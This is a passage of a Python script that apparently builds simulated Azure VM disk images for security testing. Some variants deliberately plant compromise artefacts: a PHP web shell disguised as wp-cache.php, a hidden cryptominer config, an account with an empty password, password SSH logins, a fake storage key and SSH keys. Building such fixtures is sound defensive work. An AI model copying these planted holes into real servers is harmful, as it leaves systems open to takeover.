        mk_vfat(esp_tree("redhat"), 8 * MiB, "EFI", esp)
        mk_xfs(boot_tree, 24 * MiB, "boot", boot)
        mk_xfs(root_tree, 40 * MiB, "root", rootlv)
        mk_xfs(home_tree, 16 * MiB, "home", homelv)
        write_lvm_pv(pv, 64 * MiB, "rootvg", [("rootlv", 10, rootlv), ("homelv", 4, homelv)])
        build_disk(name, "gpt", [(1, 8, ESP, "EFI System Partition", esp), (9, 24, LINUX, "boot", boot), (33, 1, BIOS, None, None), (34, 64, LVM, None, pv)], 100 * MiB)


def ubuntu2204(variant=None):
    host = {"web": "web-eus-01", "dev": "dev-wus2-05"}.get(variant, "ubuntu")
    t = linux_base("ubuntu2204", host)
    t.file("/boot/vmlinuz-6.5.0-1025-azure", b"\0" * 4096 + b"Linux kernel stand-in 6.5.0-1025-azure\n", mode=0o600)
    t.file("/boot/grub/grub.cfg", "set default=0\nmenuentry 'Ubuntu' { linux /boot/vmlinuz-6.5.0-1025-azure root=LABEL=cloudimg-rootfs ro console=ttyS0 }\n")
    t.file("/var/www/html/index.nginx-debian.html", "<!DOCTYPE html><html><head><title>Welcome to nginx!</title></head><body><h1>Welcome to nginx!</h1></body></html>\n")
    if variant == "web":
        # a compromised web server: PHP web shell in the uploads directory, a cryptominer's config in a hidden directory
        t.file("/var/www/html/wp-content/uploads/2024/08/wp-cache.php", WEB_SHELL, uid=33, gid=33)
        t.file("/var/tmp/.x11-unix/config.json", json.dumps(XMRIG, indent=4) + "\n", uid=33, gid=33)
        t.file("/var/tmp/.x11-unix/x11d", b"\x7fELF\x02\x01\x01" + b"\0" * 57 + b"XMRig 6.21.0 stand-in (renamed)\n", mode=0o755, uid=33, gid=33)
    if variant == "dev":
        t.file("/var/lib/dpkg/status", dpkg_status("ubuntu2204", vulnerable=True))
        t.file("/etc/ssh/sshd_config", SSHD_WEAK)
        t.file("/etc/ssh/sshd_config.d/50-cloudimg-settings.conf", "ClientAliveInterval 120\nPasswordAuthentication yes\n")
        t.file("/etc/passwd", t.entries["/etc/passwd"][1].decode() + "svc-backup:x:1001:1001:Backup service:/home/svc-backup:/bin/bash\n")
        t.file("/etc/shadow", t.entries["/etc/shadow"][1].decode() + "svc-backup::19965:0:99999:7:::\n", mode=0o640, gid=42)
        t.dir("/home/svc-backup", 0o755, 1001, 1001)
        t.dir("/home/azureuser/Downloads", 0o755, 1000, 1000)
        t.file("/home/azureuser/Downloads/eicar.com", EICAR, uid=1000, gid=1000)
        key, pub = ssh_private_key("deploy@dev-wus2-05")
        t.file("/home/azureuser/.ssh/id_ed25519", key, mode=0o600, uid=1000, gid=1000)
        t.file("/home/azureuser/.ssh/id_ed25519.pub", pub, uid=1000, gid=1000)
    return t


def ubuntu2004():
    t = linux_base("ubuntu2004", "mongo")
    t.file("/boot/vmlinuz-5.15.0-1073-azure", b"\0" * 4096 + b"Linux kernel stand-in 5.15.0-1073-azure\n", mode=0o600)
    t.file("/etc/mongod.conf", "storage:\n  dbPath: /var/lib/mongodb\nnet:\n  port: 27017\n  bindIp: 0.0.0.0\nsecurity:\n  authorization: enabled\n")
    t.dir("/var/lib/mongodb", 0o750, 113, 119)
    return t


def debian12():
    t = linux_base("debian12", "web-weu")
    t.file("/boot/vmlinuz-6.1.0-25-cloud-amd64", b"\0" * 4096 + b"Linux kernel stand-in 6.1.0-25-cloud-amd64\n", mode=0o600)
    t.file("/etc/nginx/nginx.conf", "user www-data;\nworker_processes auto;\nevents { worker_connections 768; }\nhttp { include /etc/nginx/sites-enabled/*; }\n")
    t.file("/var/www/html/index.html", "<!DOCTYPE html><html><head><title>Fabrikam Tracking (EU)</title></head><body>Fabrikam Logistics parcel tracking</body></html>\n")
    return t


def rhel9(variant=None):
    t = linux_base("rhel9", "app-eus-01" if variant else "app")
    t.file("/boot/vmlinuz-5.14.0-427.13.1.el9_4.x86_64", b"\0" * 4096 + b"Linux kernel stand-in 5.14.0-427.13.1.el9_4\n", mode=0o755)
    t.file("/boot/grub2/grub.cfg", "set default=0\nmenuentry 'Red Hat Enterprise Linux (5.14.0-427.13.1.el9_4.x86_64) 9.4 (Plow)' { linux /vmlinuz-5.14.0-427.13.1.el9_4.x86_64 root=/dev/mapper/rootvg-rootlv ro }\n")
    t.file("/boot/config-5.14.0-427.13.1.el9_4.x86_64", "CONFIG_XFS_FS=m\nCONFIG_BLK_DEV_DM=m\n")
    t.file("/opt/orders-api/appsettings.json", json.dumps({
        "Logging": {"LogLevel": {"Default": "Information"}},
        "Orders": {"QueueName": "orders-in", "Region": "eastus"},
        "ConnectionStrings": {"Orders": "Server=tcp:sql-fabrikam-prod-eus.database.windows.net,1433;Database=orders;Authentication=Active Directory Default;"} if not variant else {
            "Orders": "Server=tcp:sql-fabrikam-prod-eus.database.windows.net,1433;Database=orders;Authentication=Active Directory Default;",
            "Blobs": f"DefaultEndpointsProtocol=https;AccountName=stfabrikamorders;AccountKey={FAKE_STORAGE_KEY};EndpointSuffix=core.windows.net"},
    }, indent=2) + "\n", mode=0o640, uid=0, gid=1000)
    return t


def win2022(variant=None):
    t = Tree()
    for d in ["/Windows/System32/config", "/Windows/System32/drivers/etc", "/Windows/Temp", "/Program Files/Common Files", "/Program Files (x86)",
              "/ProgramData/Microsoft/Windows Defender", "/Users/Public/Documents", "/Users/contosoadmin/Documents", "/Users/contosoadmin/Desktop",
              "/WindowsAzure/Logs", "/inetpub/wwwroot"]:
        t.dir(d)
    t.file("/Windows/System32/drivers/etc/hosts", "# Copyright (c) 1993-2009 Microsoft Corp.\r\n#\r\n# This is a sample HOSTS file used by Microsoft TCP/IP for Windows.\r\n127.0.0.1       localhost\r\n")
    t.file("/Windows/System32/cmd.exe", b"MZ\x90\x00" + b"\0" * 60 + b"This program cannot be run in DOS mode. cmd.exe stand-in 10.0.20348.2700\r\n")
    t.file("/Windows/System32/ntoskrnl.exe", b"MZ\x90\x00" + b"\0" * 60 + b"ntoskrnl stand-in 10.0.20348.2700\r\n")
    t.file("/Windows/System32/config/SOFTWARE", b"regf" + b"\0" * 4092)
    t.file("/Windows/System32/config/SYSTEM", b"regf" + b"\0" * 4092)
    t.file("/Windows/win.ini", "; for 16-bit app support\r\n[fonts]\r\n[extensions]\r\n")
    t.file("/WindowsAzure/Logs/WaAppAgent.log", "[00000006] [08/30/2024 06:40:00.00] [INFO]  WindowsAzureGuestAgent starting. Version 2.7.41491.1102\r\n")
    t.file("/inetpub/wwwroot/iisstart.htm", "<!DOCTYPE html><html><head><title>IIS Windows Server</title></head><body></body></html>\r\n")
    t.file("/Users/contosoadmin/Documents/runbook.txt", "Patch window: Sunday 02:00-04:00 UTC\r\n")
    if variant == "jump":
        t.dir("/Users/contosoadmin/.kube")
        t.file("/Users/contosoadmin/.kube/config", KUBECONFIG)
    return t


def win_disk(name, tree):
    """Windows Server 2022 (Azure, gen1 layout): MBR, a 16 MiB 'System Reserved' NTFS partition, then C: NTFS."""
    sysres, c = os.path.join(WORK, name + "-sysres.ntfs"), os.path.join(WORK, name + "-c.ntfs")
    boot = Tree()
    boot.file("/bootmgr", b"bootmgr stand-in\r\n")
    boot.file("/Boot/BCD", b"regf" + b"\0" * 4092)
    mk_ntfs(boot, 16 * MiB, "System Reserved", sysres)
    mk_ntfs(tree, 40 * MiB, "Windows", c)
    build_disk(name, "dos", [(1, 16, "7", "boot", sysres), (17, 40, "7", None, c)], 58 * MiB)


IMAGES = {
    "ubuntu2204": lambda: linux_disk("ubuntu2204", "ubuntu2204", ubuntu2204()),
    "ubuntu2204-web": lambda: linux_disk("ubuntu2204-web", "ubuntu2204", ubuntu2204("web")),
    "ubuntu2204-dev": lambda: linux_disk("ubuntu2204-dev", "ubuntu2204", ubuntu2204("dev")),
    "ubuntu2004": lambda: linux_disk("ubuntu2004", "ubuntu2004", ubuntu2004()),
    "debian12": lambda: linux_disk("debian12", "debian12", debian12()),
    "rhel9": lambda: linux_disk("rhel9", "rhel9", rhel9()),
    "rhel9-orders": lambda: linux_disk("rhel9-orders", "rhel9", rhel9("orders")),
    "win2022": lambda: win_disk("win2022", win2022()),
    "win2022-jump": lambda: win_disk("win2022-jump", win2022("jump")),
}

if __name__ == "__main__":
    names = sys.argv[1:] or list(IMAGES)
    WORK = tempfile.mkdtemp(prefix="azuresim-images-")
    try:
        for n in names:
            IMAGES[n]()
    finally:
        shutil.rmtree(WORK)
